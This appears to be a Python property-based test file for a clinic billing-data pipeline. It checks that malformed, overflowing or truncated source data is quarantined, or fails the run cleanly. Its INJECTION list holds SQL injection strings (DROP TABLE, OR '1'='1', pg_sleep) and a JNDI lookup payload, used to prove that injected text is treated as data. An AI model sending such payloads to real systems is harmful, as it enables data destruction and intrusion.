@@ -1,0 +1,418 @@
+"""Hostile billing data: whatever the application's SQLite file holds, every run succeeds and no row is lost.
+
+Property tests generate sources with wrong types, NaN/inf, amounts beyond NUMERIC(10,2), zero and
+negative amounts, SQL-injection strings, control characters and long unicode in every text column,
+far-past/future and garbage dates, missing invoices and patients, next to rows valid in odd forms.
+After the daily assets (over RANGE_START..TODAY) and the current-state assets run, every source
+payment is staged or quarantined (or dated before the range), every invoice is staged or
+quarantined, and nothing is in both. The one run failure allowed is revenue_metrics refusing, by
+rule name, a day whose valid payments add up to more than its DECIMAL(10,2) can hold.
+
+By default each property runs 25 examples; HYPOTHESIS_PROFILE=slow runs many more:
+
+    HYPOTHESIS_PROFILE=slow .venv/bin/python -m pytest reporting_assets_tests/test_hostile_input.py
+
+Then an unreadable source (locked by the application, or cut short, even inside its last page)
+fails the run with one sentence and leaves every table as it was, and invoice numbers PostgreSQL
+could not store (NUL, over 50 characters) are quarantined, while a bare carriage return is data.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+import re
+import sqlite3
+import uuid
+from decimal import Decimal
+
+import dagster as dg
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from reporting_assets.staging.assets import ACCOUNTED_CHECK
+from reporting_assets_tests.conftest import (
+    TODAY,
+    fake_patient,
+    make_resources,
+    materialize_current,
+    materialize_days,
+    query,
+    write_source,
+)
+
+# one database serves every example of a property: these tables are emptied between examples
+# (audit_log refuses TRUNCATE by design, so its rows simply accumulate)
+RESET_TABLES = (
+    "reporting.patient_payment_history",
+    "reporting.revenue_metrics",
+    "reporting.outstanding_payments",
+    "reporting.quarantine",
+    "staging.payments",
+    "staging.invoices",
+)
+ALL_TABLES = (*RESET_TABLES, "reporting.audit_log")
+RANGE_START = TODAY - dt.timedelta(days=6)
+DAYS_BEYOND_NUMERIC_10_2 = (
+    "SELECT payment_date FROM reporting.patient_payment_history WHERE payment_status = 'paid' GROUP BY 1 HAVING sum(amount) > 99999999.99"
+)
+PATIENT_IDS = (1, 2, 3)
+
+settings.register_profile(
+    "hostile-default",
+    max_examples=25,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+settings.register_profile("slow", settings.get_profile("hostile-default"), max_examples=400)
+HOSTILE = settings.get_profile("slow" if os.environ.get("HYPOTHESIS_PROFILE") == "slow" else "hostile-default")
+
+# ------------------------------------------------------------------ strategies
+INJECTION = [
+    "'; DROP TABLE reporting.audit_log; --",
+    "Robert'); DROP TABLE patients;--",
+    "1' OR '1'='1",
+    "$$; SELECT pg_sleep(10); $$",
+    "\\.",  # end-of-data marker of COPY text format
+    "\\N",  # NULL in COPY text format
+    '","',
+    "E'\\x41'",
+    "%s %(x)s {0}",
+    "${jndi:ldap://example.invalid/a}",
+]
+# text PostgreSQL can store: no NUL (see test_nul_in_an_invoice_number_is_quarantined_not_fatal) and no lone surrogates
+pg_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=80)
+long_unicode = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00", min_codepoint=0x80), min_size=51, max_size=400)
+control_text = st.text(st.characters(min_codepoint=1, max_codepoint=0x1F), min_size=1, max_size=10)
+hostile_text = st.one_of(st.sampled_from(INJECTION), pg_text, long_unicode, control_text, st.just(""))
+
+in_range_day = st.dates(min_value=RANGE_START, max_value=TODAY)
+future_day = st.dates(min_value=TODAY + dt.timedelta(days=1), max_value=dt.date(9999, 12, 31))
+past_day = st.dates(min_value=dt.date(1, 1, 1), max_value=RANGE_START - dt.timedelta(days=1))
+clock = st.times().map(lambda t: t.replace(microsecond=0).isoformat())
+
+
+def date_forms(days: st.SearchStrategy[dt.date]) -> st.SearchStrategy[str]:
+    return st.one_of(
+        days.map(dt.date.isoformat),
+        st.tuples(days, clock).map(lambda d: f"{d[0].isoformat()}T{d[1]}"),
+        st.tuples(days, clock).map(lambda d: f"{d[0].isoformat()} {d[1]}"),
+        st.tuples(days, clock, st.sampled_from(["Z", "+14:00", "-12:00", ".123456"])).map(lambda d: f"{d[0].isoformat()}T{d[1]}{d[2]}"),
+    )
+
+
+garbage_date = st.one_of(
+    st.sampled_from(["", "not a date", "2026-02-30", "2026-13-01", "20260315", "15/03/2026", "2026-03-15 ", " 2026-03-15",
+                     "2026-03-15\n", "2026-03-15T", "2026-3-15", "+2026-03-15", "٢٠٢٦-٠٣-١٥", "2026-03-15; DROP TABLE x"]),
+    st.integers(min_value=-(2**63), max_value=2**63 - 1),  # TEXT affinity stores it as text
+    st.binary(max_size=12),
+    hostile_text,
+)
+payment_date = st.one_of(date_forms(in_range_day), date_forms(future_day), date_forms(past_day), garbage_date)
+
+amount = st.one_of(
+    st.sampled_from([
+        0, 0.0, "0", "-0", "0.00", "0.004", "0.005", -0.01, -5, "12.50", " 12.50 ", "$12.50", "1,000.00", "12.5.0",
+        "NaN", "nan", "sNaN", "inf", "-Infinity", 1e12, "1e12", "99999999999.99", 99999999.99, 99999999.995, "99999999.995",
+        "1E+999999999", "1e-999999999", "１２.５０", 10.005, 2.675, 0.1 + 0.2,
+    ]),
+    st.integers(min_value=-(2**63), max_value=2**63 - 1),
+    st.floats(allow_nan=False),  # SQLite stores NaN as NULL, which NOT NULL refuses: NaN comes as text above
+    st.decimals(allow_nan=True, allow_infinity=True).map(str),
+    st.binary(max_size=12),
+    hostile_text,
+)
+payment_status = st.one_of(
+    st.sampled_from(["paid", "PAID", " Paid", "Paid ", "pending", "failed", "refunded", "REFUNDED", "bounced", "paid\x00", "pa id"]),
+    st.integers(min_value=-5, max_value=5),
+    st.binary(max_size=6),
+    hostile_text,
+)
+invoice_status = st.one_of(
+    st.sampled_from(["open", "OPEN", " Open", "paid", "void", "written_off", "WRITTEN_OFF", "closed"]),
+    st.integers(min_value=-5, max_value=5),
+    hostile_text,
+)
+invoice_number = st.one_of(
+    st.integers(min_value=1, max_value=10**6).map(lambda n: f"INV-2026-{n:06d}"),
+    st.integers(min_value=-(2**63), max_value=2**63 - 1),  # TEXT affinity: stored as its decimal text
+    st.binary(min_size=1, max_size=8),
+    # no carriage return: see test_a_carriage_return_in_an_invoice_number_is_data_not_a_line_break
+    hostile_text.map(lambda text: text.replace("\r", "")),
+)
+any_reference = st.one_of(st.integers(min_value=-(2**63), max_value=2**63 - 1), st.floats(allow_nan=False), pg_text, st.binary(max_size=4))
+
+
+# rows that pass every rule (in odd but valid forms), so accepted rows and their sums are exercised too
+plausible_amount = st.one_of(
+    st.decimals(min_value=Decimal("0.01"), max_value=Decimal("99999999.99"), places=2).map(str),
+    st.floats(min_value=0.005, max_value=99999999.99),
+    st.integers(min_value=1, max_value=99999999),
+    st.sampled_from([10.005, 2.675, "0.005", " 12.50 ", 99999999.99, "99999999.99"]),
+)
+valid_payment_status = st.sampled_from(["paid", "PAID", " Paid", "Paid ", "pending", "failed", "refunded", "REFUNDED"])
+valid_invoice_status = st.sampled_from(["open", "OPEN", " Open", "paid", "void", "written_off"])
+invoice_day = st.dates(min_value=dt.date(2025, 1, 1), max_value=TODAY)
+
+
+@st.composite
+def billing_sources(draw) -> dict[str, list[tuple]]:
+    """patients 1..3 (hostile PII text), up to 6 invoices and up to 15 payments, in write_source's row shapes.
+
+    Each invoice and payment is either hostile in every column or valid in every column (odd forms included).
+    """
+    patients = [
+        (pid, *(draw(st.one_of(hostile_text, st.just(v))) for v in fake_patient(pid)[1:]))
+        for pid in PATIENT_IDS
+    ]
+    invoice_ids = draw(st.lists(st.integers(min_value=-(2**63), max_value=2**63 - 1), max_size=6, unique=True))
+    # SQLite keeps invoice_number UNIQUE; the platform reads a blob by its repr, so keep str() forms apart too
+    numbers = draw(st.lists(invoice_number, min_size=len(invoice_ids), max_size=len(invoice_ids), unique_by=str))
+    patient_ref = st.one_of(st.none(), st.sampled_from(PATIENT_IDS), any_reference)
+    invoices = []
+    for iid, number in zip(invoice_ids, numbers):
+        if draw(st.booleans()):
+            row = (iid, number, draw(st.sampled_from(PATIENT_IDS)), draw(date_forms(invoice_day)), draw(date_forms(invoice_day)), draw(plausible_amount), draw(valid_invoice_status))
+        else:
+            row = (iid, number, draw(patient_ref), draw(payment_date), draw(payment_date), draw(amount), draw(invoice_status))
+        invoices.append(row)
+    # payments never point at an invoice whose number is too long to stage:
+    # see test_a_payment_of_an_invoice_with_an_overlong_number_is_quarantined_not_fatal
+    payable = [iid for iid, number in zip(invoice_ids, numbers) if len(str(number)) <= 50]
+    known_invoice = st.one_of(st.none(), st.sampled_from(payable)) if payable else st.none()
+    invoice_ref = st.one_of(known_invoice, any_reference)
+    payment_ids = draw(st.lists(st.integers(min_value=-(2**63), max_value=2**63 - 1), max_size=15, unique=True))
+    payments = []
+    for pid in payment_ids:
+        method = draw(st.one_of(st.none(), hostile_text))
+        if draw(st.booleans()):
+            row = (pid, draw(known_invoice), draw(st.one_of(st.sampled_from(PATIENT_IDS), st.none())), draw(date_forms(in_range_day)), draw(plausible_amount), draw(valid_payment_status), method)
+        else:
+            row = (pid, draw(invoice_ref), draw(patient_ref), draw(payment_date), draw(amount), draw(payment_status), method)
+        payments.append(row)
+    return {"patients": patients, "invoices": invoices, "payments": payments}
+
+
+# ------------------------------------------------------------------ helpers
+def reset(url: str) -> None:
+    query(url, f"TRUNCATE {', '.join(RESET_TABLES)}")
+
+
+def ids(url: str, statement: str) -> set[int]:
+    return {row[0] for row in query(url, statement)}
+
+
+def dated_before_range(value: object) -> bool:
+    """A well-formed date before RANGE_START: its partition is not materialized, so it is in no table."""
+    match = re.match(r"([0-9]{4}-[0-9]{2}-[0-9]{2})", value) if isinstance(value, str) else None
+    if not match:
+        return False
+    try:
+        return dt.date.fromisoformat(match.group(1)) < RANGE_START
+    except ValueError:
+        return False
+
+
+def table_contents(url: str) -> dict[str, list[tuple]]:
+    return {table: sorted(query(url, f"SELECT * FROM {table}"), key=repr) for table in ALL_TABLES}
+
+
+def failure_text(result: dg.ExecuteInProcessResult) -> str:
+    """The failed step's error with its causes: the sentence a user reads in the UI."""
+    failure = next(e for e in result.all_events if e.event_type == dg.DagsterEventType.STEP_FAILURE)
+    error, parts = failure.step_failure_data.error, []
+    while error is not None:
+        parts.append(error.message.strip())
+        error = error.cause
+    return "\n".join(parts)
+
+
+# ------------------------------------------------------------------ properties
+@HOSTILE
+@given(source=billing_sources())
+def test_every_hostile_row_is_staged_or_quarantined_and_the_run_succeeds(database_url, tmp_path, source):
+    reset(database_url)
+    path = write_source(tmp_path / f"clinic-{uuid.uuid4().hex}.db", **source)
+    try:
+        resources = make_resources(database_url, path, tmp_path / "home")
+        daily = materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False)
+        current = materialize_current(resources)
+    finally:
+        path.unlink()
+    assert current.success  # no CHECK constraint, COPY or type error anywhere
+    failed = {e.step_key for e in daily.all_events if e.event_type == dg.DagsterEventType.STEP_FAILURE}
+    if failed:
+        # the one legitimate failure: valid payments of a day add up to more than revenue_metrics'
+        # DECIMAL(10,2) can hold; the run says so by rule name and leaves the table as it was
+        assert failed == {"revenue_metrics"}, failure_text(daily)
+        assert "total_revenue: must be a NUMERIC(10,2) value" in failure_text(daily)
+        assert query(database_url, DAYS_BEYOND_NUMERIC_10_2), "revenue_metrics failed without an overflowing day"
+        assert query(database_url, "SELECT count(*) FROM reporting.revenue_metrics") == [(0,)]
+    else:
+        assert not query(database_url, DAYS_BEYOND_NUMERIC_10_2)
+        assert query(database_url, "SELECT count(*) FROM reporting.revenue_metrics") == [(7,)]
+
+    staged = ids(database_url, "SELECT source_payment_id FROM staging.payments")
+    quarantined = ids(database_url, "SELECT source_id FROM reporting.quarantine WHERE source_table = 'payments'")
+    history = ids(database_url, "SELECT source_payment_id FROM reporting.patient_payment_history")
+    expected = {p[0] for p in source["payments"] if not dated_before_range(p[3])}
+    assert expected <= staged | quarantined, "a payment vanished"
+    assert not staged & quarantined, "a payment was both staged and quarantined"
+    assert history == staged
+    accounted = [e for e in daily.get_asset_check_evaluations() if e.check_name == ACCOUNTED_CHECK]
+    assert accounted and all(e.passed for e in accounted)
+
+    staged_invoices = ids(database_url, "SELECT source_invoice_id FROM staging.invoices")
+    quarantined_invoices = ids(database_url, "SELECT source_id FROM reporting.quarantine WHERE source_table = 'invoices'")
+    assert staged_invoices | quarantined_invoices == {i[0] for i in source["invoices"]}
+    assert not staged_invoices & quarantined_invoices
+    outstanding = {r[0] for r in query(database_url, "SELECT invoice_id FROM reporting.outstanding_payments")}
+    assert outstanding <= {r[0] for r in query(database_url, "SELECT invoice_id FROM staging.invoices")}
+
+
+def test_the_largest_finite_floats_are_quarantined_not_fatal(database_url, tmp_path):
+    """Found by the slow profile: amount * 100 overflowed to inf in parsing.parse_amounts and crashed both staging assets."""
+    path = write_source(
+        tmp_path / "clinic.db",
+        [fake_patient(1)],
+        [(10, "INV-2026-000010", 1, "2026-03-14", "2026-03-14T13:39:18", -1.7976931348623157e308, "open")],
+        [(100, None, 1, TODAY.isoformat(), 1.7976931348623157e308, "paid", None), (101, None, 1, TODAY.isoformat(), 1e104, "paid", None)],
+    )
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat()).success
+    assert materialize_current(resources).success
+    assert ids(database_url, "SELECT source_id FROM reporting.quarantine") == {10, 100, 101}
+
+
+def test_a_day_whose_revenue_exceeds_decimal_10_2_fails_by_rule_and_keeps_the_table(database_url, tmp_path):
+    """Each payment fits NUMERIC(10,2) but their day's sum does not fit revenue_metrics.total_revenue (seed DDL)."""
+    first = [(100, None, 1, TODAY.isoformat(), 10, "paid", None)]
+    path = write_source(tmp_path / "clinic.db", [fake_patient(1)], [], first)
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat()).success
+    before = query(database_url, "SELECT date_key, total_revenue FROM reporting.revenue_metrics ORDER BY 1")
+    con = sqlite3.connect(path)
+    con.executemany("INSERT INTO payments VALUES (?, NULL, 1, ?, ?, 'paid', NULL, ?, ?)", [(101, TODAY.isoformat(), 99999999.99, "x", "x"), (102, TODAY.isoformat(), "99999999.99", "x", "x")])
+    con.commit()
+    con.close()
+    result = materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False)
+    assert not result.success
+    assert "RevenueMetrics output breaks its schema: total_revenue: must be a NUMERIC(10,2) value" in failure_text(result)
+    assert query(database_url, "SELECT date_key, total_revenue FROM reporting.revenue_metrics ORDER BY 1") == before
+    assert ids(database_url, "SELECT source_payment_id FROM reporting.patient_payment_history") == {100, 101, 102}
+
+
+# ------------------------------------------------------------------ invoice numbers PostgreSQL could not store
+def test_nul_in_an_invoice_number_is_quarantined_not_fatal(database_url, tmp_path):
+    path = write_source(
+        tmp_path / "clinic.db",
+        [fake_patient(1)],
+        [(10, "INV-\x00-1", 1, "2026-01-01", "2026-01-31", 100.00, "open")],
+        [(100, 10, 1, TODAY.isoformat(), 5, "paid", None)],
+    )
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_current(resources, raise_on_error=False).success
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False).success
+
+
+def test_a_payment_of_an_invoice_with_an_overlong_number_is_quarantined_not_fatal(database_url, tmp_path):
+    path = write_source(
+        tmp_path / "clinic.db",
+        [fake_patient(1)],
+        [(10, "INV-" + "9" * 60, 1, "2026-01-01", "2026-01-31", 100.00, "open")],
+        [(100, 10, 1, TODAY.isoformat(), 5, "paid", None)],
+    )
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_current(resources, raise_on_error=False).success
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False).success
+
+
+def test_a_carriage_return_in_an_invoice_number_is_data_not_a_line_break(database_url, tmp_path):
+    path = write_source(
+        tmp_path / "clinic.db",
+        [fake_patient(1)],
+        [(10, "INV-2026\r000010", 1, "2026-01-01", "2026-01-31", 100.00, "open")],
+        [(100, 10, 1, TODAY.isoformat(), 5, "paid", None)],
+    )
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_current(resources, raise_on_error=False).success
+    assert query(database_url, "SELECT invoice_id FROM staging.invoices") == [("INV-2026\r000010",)]
+
+
+# ------------------------------------------------------------------ unreadable sources
+@pytest.fixture
+def materialized(database_url, tmp_path):
+    """A source and the tables built from it; returns (source path, resources, table contents)."""
+    patients = [fake_patient(i) for i in range(1, 41)]
+    invoices = [(i, f"INV-2026-{i:06d}", 1 + i % 40, "2026-01-01", "2026-01-31", 100.00, "open") for i in range(1, 201)]
+    payments = [(i, 1 + i % 200, None, (RANGE_START + dt.timedelta(days=i % 7)).isoformat(), 10 + i % 7, "paid", "card") for i in range(1, 1201)]
+    path = write_source(tmp_path / "clinic.db", patients, invoices, payments)
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat()).success
+    assert materialize_current(resources).success
+    return path, resources, table_contents(database_url)
+
+
+def test_a_locked_source_fails_the_run_in_one_sentence_and_changes_nothing(materialized, database_url):
+    path, resources, before = materialized
+    application = sqlite3.connect(path, isolation_level=None)
+    application.execute("BEGIN EXCLUSIVE")  # the billing application in the middle of a write
+    try:
+        result = materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False)
+    finally:
+        application.execute("ROLLBACK")
+        application.close()
+    assert not result.success
+    text = failure_text(result)
+    sentence = re.search(r"reporting_assets\.config\.ConfigError: (.*)", text)
+    assert sentence, text
+    assert "database is locked" in sentence.group(1) and str(path) in sentence.group(1)
+    assert sentence.group(1).count(". ") == 0 and sentence.group(1).endswith(".")  # one sentence
+    assert table_contents(database_url) == before
+
+
+@pytest.mark.parametrize("cut", ["half", "header_only"])
+def test_a_truncated_source_fails_the_run_in_one_sentence_and_changes_nothing(materialized, database_url, tmp_path, cut):
+    path, resources, before = materialized
+    data = path.read_bytes()
+    truncated = tmp_path / "truncated.db"
+    truncated.write_bytes(data[: len(data) // 2] if cut == "half" else data[:100])
+    resources = {**resources, "billing_source": type(resources["billing_source"])(path=str(truncated))}
+    for result in (
+        materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False),
+        materialize_current(resources, raise_on_error=False),
+    ):
+        assert not result.success
+        text = failure_text(result)
+        sentence = re.search(r"reporting_assets\.config\.ConfigError: (.*)", text)
+        assert sentence, text
+        assert "cannot be read" in sentence.group(1) and str(truncated) in sentence.group(1)
+    assert table_contents(database_url) == before
+
+
+@pytest.mark.parametrize("cut", [1000, 2000])
+def test_a_source_cut_inside_its_last_page_fails_in_one_sentence(materialized, database_url, tmp_path, cut):
+    path, resources, before = materialized
+    data = path.read_bytes()
+    assert len(data) % 4096 == 0 and cut < 4096  # the cut lands inside the last page, as a copy still in progress would
+    torn = tmp_path / "torn.db"
+    torn.write_bytes(data[: len(data) - cut])
+    resources = {**resources, "billing_source": type(resources["billing_source"])(path=str(torn))}
+    result = materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat(), raise_on_error=False)
+    assert not result.success and "ConfigError" in failure_text(result)
+    assert table_contents(database_url) == before
+
+
+def test_sql_injection_text_is_data_never_sql(database_url, tmp_path):
+    """Every injection string as an invoice number and status: staged verbatim or quarantined, nothing executed."""
+    invoices = [(i, text, 1, "2026-01-01", "2026-01-31", 10.00, "open") for i, text in enumerate(INJECTION, start=1)]
+    payments = [(100 + i, i, 1, TODAY.isoformat(), 5, text, None) for i, text in enumerate(INJECTION, start=1)]
+    path = write_source(tmp_path / "clinic.db", [fake_patient(1)], invoices, payments)
+    resources = make_resources(database_url, path, tmp_path / "home")
+    assert materialize_days(resources, RANGE_START.isoformat(), TODAY.isoformat()).success
+    assert materialize_current(resources).success
+    assert {r[0] for r in query(database_url, "SELECT invoice_id FROM staging.invoices")} == set(INJECTION)
+    assert query(database_url, "SELECT count(*) FROM reporting.outstanding_payments") == [(len(INJECTION),)]
+    assert ids(database_url, "SELECT source_id FROM reporting.quarantine WHERE source_table = 'payments'") == {p[0] for p in payments}
+    assert query(database_url, "SELECT to_regclass('reporting.audit_log') IS NOT NULL, to_regclass('staging.payments') IS NOT NULL") == [(True, True)]
